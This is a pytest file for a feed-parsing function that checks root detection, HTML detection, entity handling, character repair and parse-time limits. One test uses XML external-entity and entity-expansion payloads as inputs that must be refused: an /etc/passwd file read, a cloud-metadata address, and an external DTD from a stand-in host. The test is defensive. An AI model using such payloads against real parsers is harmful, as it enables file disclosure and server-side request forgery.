"""What stands at the head of a document."""

import time

import pytest

from pipeline.collect.document import read_document

RSS = "<rss version='2.0'><channel/></rss>"


@pytest.mark.parametrize(
    ("text", "root"),
    [
        (RSS, "rss"),
        (f"<?xml version='1.0'?>\n<!-- <html> -->\n<?pi <x> ?>{RSS}", "rss"),
        (f"<!DOCTYPE rss PUBLIC '-//N//DTD RSS 0.91//EN' 'http://x/a>b.dtd'>{RSS}", "rss"),
        ("<rdf:RDF xmlns:rdf='x'/>", "rdf:rdf"),
        ("<urlset/>", "urlset"),
        ("plain", ""),
        ("{}", ""),
        ("", ""),
        ("<!-- never closed <x>", ""),
        ("<?never closed", ""),
    ],
)
def test_root(text: str, root: str) -> None:
    document = read_document(text)
    assert document.root == root
    assert document.bomb is None


@pytest.mark.parametrize(
    ("text", "is_html"),
    [
        ("<html><body/></html>", True),
        ("<!doctype HTML><div>", True),
        ("<!DOCTYPE html><svg/>", True),
        ("<HEAD>", True),
        (f"<!DOCTYPE html>{RSS}", False),
        (RSS, False),
        ("<html><body><rss></rss></body></html>", True),
    ],
)
def test_web_pages(text: str, is_html: bool) -> None:
    assert read_document(text).is_html is is_html


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE x [<!ENTITY a "1234567890"><!ENTITY b "&a;&a;">]>',
        '<!DOCTYPE x [\n<!ENTITY a SYSTEM "file:///etc/passwd">\n]>',
        "<!DOCTYPE x [<!ENTITY a PUBLIC 'p' 'http://169.254.169.254/'>]>",
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>',
        f'<!DOCTYPE x [<!ENTITY a "{"long " * 50}">]>',
        '<!doctype x [<!-- > ]> --><!ENTITY a "&b;">]>',
        "<!DOCTYPE x [<?pi ]> ?><!ENTITY a '&b;'>]>",
        "<!DOCTYPE x [<!ENTITY a '<b>&c;</b>'",
        "<!DOCTYPE x [" + "".join(f'<!ENTITY e{n} "x">' for n in range(400)) + "]>",
        '<!DOCTYPE x><!DOCTYPE y [<!ENTITY a "&b;">]>',
    ],
)
@pytest.mark.parametrize("before", ["", "<?xml version='1.0'?>", "<!-- <a> -->"])
def test_entities_that_can_do_harm_are_refused(dtd: str, before: str) -> None:
    assert read_document(before + dtd + RSS).bomb is not None


def test_harmless_entities_are_kept_and_the_dtd_is_not() -> None:
    document = read_document(
        "<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY nbsp \"&#160;\"><!ENTITY q 'a\"b'>\n"
        '<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://w/x.ent">]>'
        + RSS
    )
    assert document.bomb is None
    assert "DOCTYPE" not in document.text
    assert document.text.endswith(RSS)
    assert '<!ENTITY nbsp "&#160;">\n<!ENTITY q "a&#34;b">' in document.entities


def test_entity_declared_in_the_content_is_text() -> None:
    text = "<rss><title><![CDATA[<!DOCTYPE x [<!ENTITY a '&b;'>]>]]></title></rss>"
    document = read_document(text)
    assert document.bomb is None
    assert document.text == text


@pytest.mark.parametrize(
    "junk", ["<br />\n<b>Warning</b>: x in /a.php\n", "Notice: <p>x</p> ", "\n\n<p>hello</p>"]
)
def test_what_stands_before_a_feed_is_cut_off(junk: str) -> None:
    document = read_document(junk + "<?xml version='1.0'?>" + RSS)
    assert document.junk
    assert document.root == "rss"
    assert document.text.startswith("<?xml")


def test_bomb_behind_junk_is_found() -> None:
    bomb = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a '&b;'>]>" + RSS
    assert read_document("junk " + bomb).bomb is not None


def test_html_names_become_numbers_outside_of_the_five() -> None:
    document = read_document("<rss>&nbsp;&amp;nbsp; &mdash;&lt; &bogus; &AMP;&NotEqualTilde;</rss>")
    assert document.text == "<rss>&#160;&amp;nbsp; &#8212;&lt; &bogus; &#38;&#8770;&#824;</rss>"


@pytest.mark.parametrize(
    ("text", "mended"),
    [
        ("&#55356;&#57104;", "&#127760;"),
        ("&#xD83C;&#xDF10;", "&#127760;"),
        ("a&#55356;b", "ab"),
        ("&#57104;&#55356;", ""),
        ("&#0;&#x1;&#31;&#x1F;", ""),
        ("&#9;&#10;&#xD;&#32;", "&#9;&#10;&#13;&#32;"),
        ("&#x110000;&#99999999999999;", ""),
        ("&#55200;&#1110;&#x456;", "&#55200;&#1110;&#x456;"),
    ],
)
def test_references_to_what_is_no_character(text: str, mended: str) -> None:
    assert read_document(f"<rss>{text}</rss>").text == f"<rss>{mended}</rss>"


def test_forbidden_characters_are_dropped() -> None:
    assert read_document("\ufeff <rss>\x00\x0b\ufffe\ud800a</rss>").text == "<rss>a</rss>"


@pytest.mark.parametrize(
    "piece", ["<!DOCTYPE x>", "<!---->", "<??>", " ", "<!DOCTYPE x [", "<!DOCTYPE x '", "<rss ",
              "<!ENTITY ", "[", "&a", "&aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"],
)  # fmt: skip
@pytest.mark.parametrize("start", ["", "<!DOCTYPE x ["])
def test_time_is_linear_whatever_is_repeated(start: str, piece: str) -> None:
    text = start + piece * (1_000_000 // len(piece))
    started = time.perf_counter()
    read_document(text)
    assert time.perf_counter() - started < 10
